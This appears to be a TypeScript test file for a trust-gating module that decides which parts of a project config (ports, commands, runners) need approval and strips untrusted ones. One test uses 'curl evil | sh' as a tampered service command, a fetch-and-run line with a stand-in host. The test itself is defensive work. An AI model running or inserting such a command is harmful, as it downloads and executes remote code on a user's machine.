/** What of a project file needs trust, and what is left of it without. */
import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { type DeclaringFile, trustedParts, trustedView } from '#discovery/trusted-parts.ts';

const file = {
  $schema: 'x',
  version: 1,
  name: 'shop',
  services: {
    web: { type: 'dev', port: 3000, command: 'npm run dev', main: true, startTimeout: 60 },
    db: { type: 'database' },
  },
};

const ids = (of: DeclaringFile) => trustedParts(of).map(({ id }) => id);
const hashes = (of: DeclaringFile) => new Set(trustedParts(of).map(({ hash }) => hash));

describe('The parts of a project file', () => {
  it('change with the variables and the count of a service, and not because such words exist', () => {
    const partOf = (web: object) => trustedParts({ services: { web } })[0];
    const plain = partOf({ port: 3_000 });
    assert.equal(partOf({ port: 3_000, env: undefined, count: undefined })?.hash, plain?.hash);
    const more = partOf({ port: 3_000, env: ['VITE_PORT'], count: 3 });
    assert.notEqual(more?.hash, plain?.hash);
    assert.equal(more?.words, '3 ports from 3000 on, told as VITE_PORT');
  });

  it('are each service’s port and command, and nothing that only names or waits', () => {
    assert.deepEqual(ids(file), ['services.web.port', 'services.web.command', 'services.db.port']);
  });

  it('are each runner, with all that it says in words', () => {
    const web = {
      command: 'npm run dev',
      cwd: 'apps/web',
      env: { NODE_OPTIONS: '--import ./x.js' },
    };
    const more = { autostart: true, ready: { command: 'curl x' }, restart: 'always', later: [1] };
    const [part] = trustedParts({ services: {}, runners: { web: { ...web, ...more } } });
    assert.deepEqual(
      [part?.id, part?.kind, part?.words],
      [
        'runners.web',
        'run',
        'npm run dev (in apps/web, with NODE_OPTIONS=--import ./x.js, started by itself, ' +
          'ready {"command":"curl x"}, restart always, later [1])',
      ],
    );
  });

  it('of a runner change with anything that it says', () => {
    const hash = (runner: object) =>
      trustedParts({ services: {}, runners: { a: runner } })[0]?.hash;
    const plain = { command: 'x' };
    const changes = [{ command: ['x'] }, { env: { A: 'b' } }, { autostart: true }, { cwd: 'y' }];
    const all = [plain, ...changes.map((change) => ({ ...plain, ...change }))].map(hash);
    assert.equal(new Set(all).size, all.length);
    assert.equal(hash({ ...plain, env: undefined }), hash(plain));
  });

  it('that are not trusted leave no runner that is started by them', () => {
    const services = { web: { port: 3_000, command: 'a' }, api: { port: 3_001 }, db: {} };
    const runners = { web: {}, other: { command: 'b', services: ['api'] }, job: { command: 'c' } };
    const all = trustedParts({ services, runners });
    const without = (id: string) =>
      trustedView(
        { services, runners },
        new Set(all.filter((part) => part.id !== id).map(({ hash }) => hash)),
      ).untrustedRunners;
    assert.deepEqual(without('none'), []);
    assert.deepEqual(without('runners.job'), ['job']);
    assert.deepEqual(without('services.web.command'), ['web']);
    assert.deepEqual(without('services.web.port'), ['web']);
    assert.deepEqual(without('services.api.port'), ['other']);
    assert.deepEqual(without('services.db.port'), []);
    const { file: none } = trustedView({ services, runners }, new Set());
    assert.deepEqual(none, { services: {}, runners: {} });
  });

  it('are whatever else stands there, also what a later version brings', () => {
    const more = { ...file, extends: '../team', mode: 'project', types: { x: {} }, hooks: ['rm'] };
    assert.deepEqual(
      trustedParts(more)
        .slice(0, 4)
        .map(({ id, kind, words }) => [id, kind, words]),
      [
        ['extends', 'redirect', '../team'],
        ['mode', 'redirect', 'project'],
        ['types', 'listen', '{"x":{}}'],
        ['hooks', 'change', '["rm"]'],
      ],
    );
  });

  it('are known by what they say and where, and not by the order in which it is written', () => {
    const { web, db } = file.services;
    const turned = {
      services: { db, web: { command: web.command, port: web.port, type: web.type } },
    };
    assert.deepEqual(hashes(turned), hashes(file));
    const swapped = { services: { web: { ...db, command: web.command }, db: web } };
    assert.equal([...hashes(swapped)].filter((hash) => hashes(file).has(hash)).length, 1);
  });

  it('are asked for anew one by one: what was not changed stays trusted', () => {
    const changed = {
      ...file,
      services: { ...file.services, web: { ...file.services.web, command: 'curl evil | sh' } },
    };
    const { file: left, untrusted } = trustedView(changed, hashes(file));
    assert.deepEqual(
      untrusted.map(({ id, words }) => [id, words]),
      [['services.web.command', 'curl evil | sh']],
    );
    assert.deepEqual(left.services.web, { ...file.services.web, command: undefined });
    assert.deepEqual(left.services.db, file.services.db);
  });

  it('that are not trusted are not there, whatever the file says', () => {
    const command = fc.option(fc.string({ minLength: 1 }), { nil: undefined });
    const port = fc.option(fc.integer({ min: 1, max: 65_535 }), { nil: undefined });
    const service = fc.record({ command, port });
    const runner = fc.record({ command, autostart: fc.boolean() });
    const anyFile = fc.record({
      runners: fc.dictionary(fc.stringMatching(/^[a-z]{1,8}$/), runner),
      services: fc.dictionary(fc.stringMatching(/^[a-z]{1,8}$/), service),
    });
    return fc.assert(
      fc.property(anyFile, fc.func(fc.boolean()), (any, chosen) => {
        const all = trustedParts(any);
        const trusted = new Set(all.filter(({ hash }) => chosen(hash)).map(({ hash }) => hash));
        const { file: left, untrusted } = trustedView(any, trusted);
        assert.equal(untrusted.length, all.length - all.filter((p) => trusted.has(p.hash)).length);
        for (const { hash, id } of trustedParts(left))
          if (trusted.has(hash)) continue;
          else assert.fail(`${id} is there`);
      }),
    );
  });
});
